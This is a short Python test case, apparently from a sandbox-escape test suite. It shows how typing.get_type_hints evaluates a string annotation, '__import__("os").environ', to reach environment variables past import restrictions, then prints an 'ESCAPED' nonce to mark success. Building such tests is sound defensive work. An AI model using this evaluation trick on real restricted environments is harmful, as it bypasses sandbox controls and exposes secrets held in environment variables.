# id: own-082 | family: import-trick | goal: typing evaluates text: get_type_hints, ForwardRef, NamedTuple
# timeout: 5
import typing
class A:
    x: '__import__("os").environ'
result = str(typing.get_type_hints(A))
print('ESC' + 'APED_@@NONCE@@')
